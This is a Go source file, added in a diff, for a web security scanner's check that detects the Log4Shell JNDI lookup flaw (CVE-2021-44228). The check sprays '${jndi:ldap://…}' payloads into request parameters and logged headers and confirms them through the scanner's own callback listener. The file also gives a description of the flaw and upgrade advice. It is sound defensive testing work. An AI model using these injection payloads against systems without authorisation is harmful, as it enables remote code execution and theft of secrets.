@@ -1,0 +1,97 @@
+// Package jndi finds programs in Java whose log, or another part of them, looks up what a
+// text of the request names: "${jndi:…}" (CVE-2021-44228 and its kin). The look-up leads
+// to a listener of ours, which answers that nothing is there.
+package jndi
+
+import (
+	"path"
+	"strings"
+
+	"merlon/internal/engine/dast/attack"
+	"merlon/internal/engine/dast/message"
+	"merlon/internal/finding"
+	"merlon/internal/lazyregexp"
+	"merlon/internal/scan"
+)
+
+var rule = &finding.Rule{
+	ID: "dast/jndi/lookup", Analysis: finding.DAST, Name: "Look-up of a text of the request",
+	ShortDescription: "A text of the request is looked up by JNDI.",
+	Description: "The application expands expressions in texts that come with the request, most often when it writes them to its log with an old Log4j 2. Whoever sends the request makes the server load " +
+		"objects from his own one, and so run programs, or learns its environment and secrets by the names that it looks up.",
+	HowToPrevent: "Upgrade Log4j 2 to 2.17.1 or later (2.12.4 for Java 7, 2.3.2 for Java 6), and expand no expressions in texts of requests.",
+	CWE:          []string{"CWE-917"}, OWASP: []string{"A06:2021", "A03:2021"}, Severity: finding.Critical, Confidence: finding.Certain,
+}
+
+// Check is the check. It asks nothing where nobody listens.
+var Check = &attack.Check{ID: "jndi", Rules: []*finding.Rule{rule}, Profile: scan.Standard, Request: request}
+
+// headers are those that logs hold, and that applications read.
+var headers = []string{"User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version", "X-Request-Id", "Accept-Language"}
+
+// maxFolders bounds the folders whose headers are tried.
+const maxFolders = 20
+
+// other are platforms without Java.
+var other = lazyregexp.New(`(?i)PHP|ASP\.NET|Express|Werkzeug|gunicorn|uvicorn|Kestrel|IIS|Phusion|Python`)
+
+func request(t *attack.Trial) error {
+	if t.Callback == nil {
+		return nil
+	}
+	base, err := t.Baseline()
+	if err != nil || other.MatchString(base.First.Header.Get("X-Powered-By")+" "+base.First.Header.Get("Server")) {
+		return err
+	}
+	var points []message.Point
+	for _, p := range t.Request.Points() {
+		switch p.In {
+		case message.InQuery, message.InForm, message.InMultipart, message.InJSON, message.InXML:
+			if p.Type != "number" && p.Type != "boolean" && p.Type != "null" {
+				points = append(points, p)
+			}
+		}
+	}
+	if len(points) > 0 {
+		if called, err := lure(t, points); called || err != nil {
+			return err
+		}
+	}
+	if t.Once("jndi "+path.Dir(t.Request.Path)) && t.Count("jndi") <= maxFolders {
+		points = nil
+		for _, name := range headers {
+			points = append(points, message.HeaderPoint(name))
+		}
+		_, err = lure(t, points)
+	}
+	return err
+}
+
+// lure sends one request with a look-up of its own at each point.
+func lure(t *attack.Trial, points []message.Point) (bool, error) {
+	return t.Lure(func(bait func() attack.Bait) (*message.Request, []attack.Hook) {
+		r := t.Request
+		var hooks []attack.Hook
+		for i := range points {
+			b := bait()
+			payload := "${jndi:ldap://" + place(b) + "}"
+			r = r.With(points[i], payload)
+			hooks = append(hooks, attack.Hook{Bait: b, Rule: rule, At: &points[i], Payload: payload, Proof: "The value is an expression that looks something up at a listener; it was looked up."})
+		}
+		return r, hooks
+	})
+}
+
+// place is the bait's host, port and path; its name in the place of the host, where it
+// has one.
+func place(b attack.Bait) string {
+	_, at, _ := strings.Cut(b.URL, "://")
+	authority, rest, _ := strings.Cut(at, "/")
+	if b.Host == "" {
+		return authority + "/" + rest
+	}
+	if i := strings.LastIndexByte(authority, ':'); i > strings.LastIndexByte(authority, ']') {
+		return b.Host + authority[i:] + "/" + rest
+	}
+	return b.Host + "/" + rest
+}
